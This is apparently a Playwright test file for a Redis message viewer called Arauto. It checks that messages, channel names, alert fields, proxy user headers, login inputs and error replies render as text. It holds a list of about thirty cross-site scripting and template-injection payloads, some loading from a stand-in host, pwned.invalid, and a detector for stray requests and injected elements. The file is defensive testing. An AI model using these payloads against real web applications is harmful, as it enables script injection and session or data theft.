"""Markup and scripts in all input: shown as text, never executed.

As markup, each payload would set a canary, request another server, open a dialog or navigate the page.
"""

import json
from collections.abc import Iterator, Sequence
from contextlib import closing

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import OpenPage
from tests.support.pages import (
    chip,
    expect_live,
    expect_state,
    rows,
    texts,
    view,
)
from tests.support.redis_servers import RedisServer
from tests.support.servers import ArautoServer
from tests.support.waiting import eventually

RUN = "pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<script src=//pwned.invalid/{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus onfocus='{RUN}' x='",
    f'" onmouseover="{RUN}" style="position:fixed;inset:0',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<object data=//pwned.invalid/x></object><embed src=//pwned.invalid/x>",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid'>",
    "<base href=//pwned.invalid/><link rel=stylesheet href=//pwned.invalid/x>",
    "<form action=//pwned.invalid><button autofocus>x</button></form>",
    f"<a href=javascript:{RUN} id=x>x</a>",
    f"javascript:{RUN}",
    f"  jAvA\u200bScRiPt:{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    f"&lt;img src=x onerror={RUN}&gt;&#60;svg onload={RUN}&#62;",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}<%= 7*7 %>#{{7*7}}{{% if 1 %}}",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><svg onload={RUN}></template><style>@import '//pwned.invalid'</style>",
    f"\u202e>{RUN}=rorreno x=crs gmi<\u202c\u200b<img\u00a0src=x\u2028onerror={RUN}>",
    '{"__proto__":{"innerHTML":"<img src=x onerror=pwned=1>"},"constructor":"<svg onload=pwned=1>"}',
)
# Payloads that a header may contain.
PLAIN = tuple(payload for payload in PAYLOADS if payload.isascii() and "," not in payload)
PASSWORD = "ana's long password"
LANGUAGES = ("en", "pt-BR")
TRAP = """
for (const name of ["pwned", "__pwned"]) {
  Object.defineProperty(window, name, { set: () => reportProblem(`a script ran at ${location.pathname}`) });
}
addEventListener("beforeunload", () => { window.isLeaving = true; });
"""


@pytest.fixture(scope="module")
def door(valkey: RedisServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ArautoServer]:
    """A server whose visitors have names: from a proxy's header, or as users of Redis without permissions."""
    valkey.client.execute_command("ACL", "SETUSER", "nemo", "reset", "on", f">{PASSWORD}", "+@all")
    server = ArautoServer(
        tmp_path_factory.mktemp("injection") / "log",
        REDIS_URL=valkey.url, ARAUTO_LOGIN="redis",
        ARAUTO_PROXIES="127.0.0.1", ARAUTO_PROXY_USER="X-Forwarded-User",
    )  # fmt: skip
    with closing(server):
        yield server
    valkey.client.execute_command("ACL", "DELUSER", "nemo")
    valkey.client.flushall()
    assert "Traceback" not in server.log


class Guard:
    """Checks that a page requests nothing from other servers and loads no frames."""

    def __init__(self, page: Page, server: ArautoServer) -> None:
        self._page = page
        self._home = (server.url, server.ws, "data:", "about:blank", "blob:")
        self.strays: list[str] = []
        page.add_init_script(TRAP)
        page.on("request", lambda request: self._look(request.url))
        page.on("framenavigated", lambda frame: self._look(frame.url))
        page.on("popup", lambda popup: self.strays.append(f"a window {popup.url}"))

    def _look(self, url: str) -> None:
        if not url.startswith(self._home):
            self.strays.append(url)

    def expect_nothing(self, state: str) -> None:
        """Check that no payload made an element or a request."""
        made = self._page.evaluate(
            """() => [...document.querySelectorAll(
                "iframe, object, embed, base, math, details, video, style, form[action*=pwned], " +
                "meta[http-equiv], body script:not([src]), img:not(.brand__icon), " +
                "[onload], [onerror], [onfocus], [onmouseover]"
              )].map((element) => element.outerHTML).concat([...document.querySelectorAll("a[href]")]
                .map((link) => link.protocol).filter((protocol) => !/^https?:$/.test(protocol)))"""
        )
        assert (made, self.strays, len(self._page.frames)) == ([], [], 1), state


def messages_of(payloads: Sequence[str]) -> list[str]:
    """Each payload as a message, then each as every text of an alert."""
    alerts = [
        {
            "severity": "error", "title": payload, "message": payload, "tags": [payload],
            "url": payload if payload.startswith((" ", "j", "d")) else f"https://pwned.invalid/{payload}",
            payload: {payload: [payload]},
        }
        for payload in payloads
    ]  # fmt: skip
    return [*payloads, *(json.dumps(alert) for alert in alerts)]


def say(page: Page, channel: str, text: str) -> None:
    """Publish with the form, in any language."""
    page.locator("#publish-channel").fill(channel)
    page.locator("#publish-message").fill(text)
    page.locator("#publish-button").click()


@pytest.mark.parametrize("language", LANGUAGES)
def test_as_message_channel_title_and_link(
    open_page: OpenPage, plain_arauto: ArautoServer, valkey: RedisServer, language: str
) -> None:
    page = open_page(language=language, allow=("status of 502",))
    guard = Guard(page, plain_arauto)
    page.goto(plain_arauto.url + view(*PAYLOADS, patterns=[f"{payload}*" for payload in PAYLOADS]))
    expect_live(page)
    shown = 0
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        with valkey.client.pipeline(transaction=False) as pipeline:
            for payload in PAYLOADS:
                pipeline.publish(payload, payload)
            for message in messages_of(PAYLOADS)[len(PAYLOADS) :]:
                pipeline.publish(PAYLOADS[0], message)
            pipeline.execute()
        shown += 2 * len(PAYLOADS)
        expect(rows(page)).to_have_count(shown)
        assert texts(page)[-len(PAYLOADS) :] == list(PAYLOADS)  # messages that are not cards
        expect(page.locator(".card__title").last).to_have_text(PAYLOADS[-1])
        for name in ("line", "tree", "raw", "wrapped"):
            page.locator("#view").select_option(name)
            if name == "tree":
                expect(page.locator(".tree")).not_to_have_count(0)
            guard.expect_nothing(f"{name}, {scheme}")
    links = page.locator(".card__link")
    assert links.count() > 40
    assert {url.split("/")[2] for url in links.evaluate_all("(all) => all.map((link) => link.href)")} == {
        "pwned.invalid"
    }
    for payload in (f"/{PAYLOADS[0]}(/", f"{PAYLOADS[4]}>=x", *PAYLOADS[4:7]):
        page.locator(".filter__text").fill(payload)
        page.locator(".filter__text").press("Enter")
        guard.expect_nothing("filter")
    page.locator(".filter__text").fill("")
    page.locator("#browser-open").click()
    expect(page.locator(".browser__name").first).to_be_visible()
    eventually(lambda: page.locator(".browser__name").count() >= len(PAYLOADS))
    guard.expect_nothing("the channels that are alive")
    page.keyboard.press("Escape")
    page.route("**/publish", lambda route: route.fulfill(status=502, json={"error": "".join(PAYLOADS)}))
    say(page, PAYLOADS[4], PAYLOADS[5])
    expect(page.locator("#answer")).to_contain_text("".join(PAYLOADS).strip())
    guard.expect_nothing("the form's answer")
    page.locator("#drafts-open").click()
    guard.expect_nothing("the last sends")


@pytest.mark.parametrize("language", LANGUAGES)
def test_as_a_name_and_in_what_is_refused(open_page: OpenPage, door: ArautoServer, language: str) -> None:
    page = open_page(
        "/login", server=door, language=language, allow=("status of 40", "WebSocket connection to")
    )
    guard = Guard(page, door)
    for scheme, half in (("light", PLAIN[::2]), ("dark", PLAIN[1::2])):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        name = " ".join(half)
        page.set_extra_http_headers({"X-Forwarded-User": name})
        page.goto(f"{door.url}/account")
        expect(page.locator("h1")).to_have_text(name)
        guard.expect_nothing("account")
        page.goto(door.url + view("a"))
        expect_live(page)
        expect(page.locator("a.tool")).to_have_attribute("title", name)
        guard.expect_nothing("the name at the top")
    page.set_extra_http_headers({})
    for scheme, half in (("light", PAYLOADS[::2]), ("dark", PAYLOADS[1::2])):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        page.goto(f"{door.url}/login?next=/{PAYLOADS[5]}{PAYLOADS[7]}")
        page.locator("#user").evaluate("(field, name) => (field.value = name)", " ".join(half))
        page.locator("#password").fill(half[0])
        page.keyboard.press("Enter")
        expect(page.get_by_role("alert")).not_to_be_empty()
        expect(page.locator("#user")).to_have_value(" ".join(half))
        guard.expect_nothing("a login refused")
    page.goto(door.url + view(*PAYLOADS, patterns=[f"{payload}*" for payload in PAYLOADS]))
    page.locator("#user").fill("nemo")
    page.locator("#password").fill(PASSWORD)
    page.keyboard.press("Enter")
    expect_state(page, "refused")
    for payload in PAYLOADS:
        expect(chip(page, payload).locator(".chip__problem")).to_contain_text(payload.strip()[:20])
    guard.expect_nothing("what Redis refuses")
    say(page, PAYLOADS[4], "x")
    expect(page.locator("#answer")).to_contain_text(PAYLOADS[4])
    guard.expect_nothing("a publication refused")
    page.evaluate(
        """(channel) => {
          const form = document.forms.publish;
          form.elements.channel.value = channel;
          HTMLFormElement.prototype.submit.call(form);
        }""",
        "".join(PAYLOADS[:5])[:250],
    )
    expect(page.locator(".answer-page p").first).to_contain_text(PAYLOADS[4])
    guard.expect_nothing("a page that says what went wrong")
